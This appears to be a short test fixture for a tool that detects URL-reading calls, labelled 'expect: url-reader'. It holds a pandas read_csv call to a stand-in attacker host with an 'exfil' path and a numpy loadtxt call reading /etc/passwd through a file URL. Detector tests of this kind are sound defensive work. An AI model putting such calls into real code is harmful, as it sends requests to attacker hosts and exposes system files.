# expect: url-reader
import pandas as pd
df = pd.read_csv('https://evil.example/exfil?d=1')
x = np.loadtxt('file:///etc/passwd')
